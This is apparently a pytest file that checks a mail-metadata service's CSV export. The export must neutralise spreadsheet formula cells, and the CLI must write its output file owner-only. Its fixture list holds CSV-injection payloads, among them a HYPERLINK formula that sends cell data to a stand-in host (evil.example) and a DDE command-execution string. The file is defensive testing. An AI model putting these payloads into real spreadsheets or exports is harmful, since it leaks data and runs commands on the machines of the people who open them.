"""CSV export (issue 14.16): cells a spreadsheet would run as formulas are neutralised, and
the file the CLI writes is readable by its owner only. Rows come from the real redactor."""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mailmeta.cli import app as cli_app
from tests.api_helpers import ApiServer, event

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ApiServer]:
    server = ApiServer(tmp_path_factory.mktemp("csv")).start()
    # globex keeps mail_from in clear: an address can carry a formula too.
    rows = [event("acme", subject=s) for s in HOSTILE]
    rows.append(event("globex", mail_from="=1+1@evil.example", subject="plain"))
    server.store.insert_events(rows)
    try:
        yield server
    finally:
        server.stop()


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_export_neutralises_formula_cells(api: ApiServer) -> None:
    with api.client(api.operator) as c:
        r = c.get("/v1/export", params={"customer": "acme", "format": "csv"})
        assert r.status_code == 200
        subjects = sorted(row["subject"] for row in cells(r.text))
        assert subjects == sorted("'" + s for s in HOSTILE)
        r = c.get("/v1/export", params={"customer": "globex", "format": "csv"})
        [row] = cells(r.text)
        assert row["mail_from"] == "'=1+1@evil.example"
        # JSONL is exact: the values are data there, not cells.
        r = c.get("/v1/export", params={"customer": "acme"})
        assert sorted(r.text.count(s.replace('"', '\\"')) for s in HOSTILE[:4]) == [1] * 4


def test_cli_export_file_is_0600_whatever_the_umask(api: ApiServer, tmp_path: Path) -> None:
    out = tmp_path / "acme.csv"
    old = os.umask(0o022)
    try:
        r = CliRunner().invoke(
            cli_app,
            ["export", "--customer", "acme", "--format", "csv", "--out", str(out),
             "--api", api.url, "--token", api.operator],
        )  # fmt: skip
    finally:
        os.umask(old)
    assert r.exit_code == 0, r.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with open(out, newline="", encoding="utf-8") as f:
        assert all(row["subject"].startswith("'") for row in csv.DictReader(f))
